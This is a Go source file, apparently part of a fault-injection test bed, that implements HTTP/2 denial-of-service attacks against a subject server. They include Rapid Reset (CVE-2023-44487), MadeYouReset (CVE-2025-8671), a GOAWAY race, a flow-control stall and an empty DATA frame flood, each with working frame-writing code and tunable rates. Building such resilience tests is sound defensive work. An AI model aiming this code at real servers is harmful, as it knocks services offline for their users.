package http

import (
	"context"

	"faultbed/faults/param"
	"golang.org/x/net/http2"
)

// orEnded is the other proof that an attack was felt.
const orEnded = ", or a connection that the subject ended"

// inFlight is what a request asks for that should be at the origin when it is reset.
const inFlight = "size=1024&hold=300000000"

// rapidReset is CVE-2023-44487: each stream is cancelled at once, so that the limit
// of concurrent streams never counts it, and the work behind it is done all the same.
var rapidReset = Kind{Name: "rapid-reset", Sentence: "opens HTTP/2 streams and resets each at once (CVE-2023-44487)", HTTP2: true,
	Touches: "streams", Bites: "a stream that was opened and reset before a PING that the subject acknowledged" + orEnded,
	Params: []param.Param{connections(2), rate(500, "streams")},
	run: func(ctx context.Context, a *attack, c *h2conn) {
		block := c.fields("GET", a.path("slow", inFlight))
		a.paced(ctx, func(n int) error {
			return c.write(func(fr *http2.Framer) error {
				for range n {
					id := c.stream()
					fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
					fr.WriteRSTStream(id, http2.ErrCodeCancel)
				}
				return c.mark(fr, int64(n))
			})
		})
	}}

// madeYouReset is CVE-2025-8671: the client breaks a rule on a stream whose request
// is whole, so that the subject itself must reset it (RFC 9113 §6.9: an increment of
// 0) and no longer counts it, while the origin works on.
var madeYouReset = Kind{Name: "made-you-reset", Sentence: "opens HTTP/2 streams and makes the subject reset them, by window updates of 0 (CVE-2025-8671)", HTTP2: true,
	Touches: "streams reset by the subject", Bites: "an RST_STREAM that came" + orEnded,
	Params: []param.Param{connections(2), rate(500, "streams")},
	run: func(ctx context.Context, a *attack, c *h2conn) {
		block := c.fields("GET", a.path("slow", inFlight))
		a.paced(ctx, func(n int) error {
			return c.write(func(fr *http2.Framer) error {
				for range n {
					id := c.stream()
					fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
					fr.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0})
				}
				return c.mark(fr, 0)
			})
		})
	}}

// goawayRace says GOAWAY and goes on: RFC 9113 §6.8 ends the streams that the other
// side opens, so the client's own must be answered or refused, never hang.
var goawayRace = Kind{Name: "goaway-race", Sentence: "says GOAWAY on HTTP/2 connections and opens more streams", HTTP2: true,
	Touches: "streams", Bites: "a stream that was opened after GOAWAY, before a PING that the subject acknowledged" + orEnded,
	Params: []param.Param{connections(5), rate(200, "streams")},
	run: func(ctx context.Context, a *attack, c *h2conn) {
		block, said := c.fields("GET", a.path("short", "size=64")), 0
		a.paced(ctx, func(n int) error {
			return c.write(func(fr *http2.Framer) error {
				if said++; said == 1 {
					fr.WriteGoAway(0, http2.ErrCodeNo, nil)
				}
				for range n {
					fr.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream(), BlockFragment: block, EndStream: true, EndHeaders: true})
				}
				return c.mark(fr, int64(n))
			})
		})
	}}

// windowStall grants no stream a byte (RFC 9113 §6.5.2, SETTINGS_INITIAL_WINDOW_SIZE
// 0): answers are ready and can't go.
var windowStall = Kind{Name: "window-stall", Sentence: "asks for answers over HTTP/2 and never grants them a byte of flow control", HTTP2: true,
	Touches: "answers", Bites: "an answer whose head came and whose body could not" + orEnded,
	Params: []param.Param{connections(2), rate(50, "streams")},
	run: func(ctx context.Context, a *attack, c *h2conn) {
		block := c.fields("GET", a.path("short", "size=65536"))
		a.paced(ctx, func(n int) error {
			return c.write(func(fr *http2.Framer) error {
				for range n {
					fr.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream(), BlockFragment: block, EndStream: true, EndHeaders: true})
				}
				return nil
			})
		})
	}}

// emptyDataFlood is CVE-2019-9518: frames that carry nothing and end nothing.
var emptyDataFlood = Kind{Name: "empty-data-flood", Sentence: "sends DATA frames without a byte that end no HTTP/2 stream (CVE-2019-9518)", HTTP2: true,
	Touches: "frames", Bites: "a frame before a PING that the subject acknowledged" + orEnded,
	Params: []param.Param{connections(2), rate(1000, "frames")},
	run: func(ctx context.Context, a *attack, c *h2conn) {
		block, id := c.fields("POST", a.path("short", "size=64")), uint32(0)
		a.paced(ctx, func(n int) error {
			return c.write(func(fr *http2.Framer) error {
				if id == 0 {
					id = c.stream()
					fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
				}
				for range n {
					fr.WriteData(id, false, nil)
				}
				return c.mark(fr, int64(n))
			})
		})
	}}
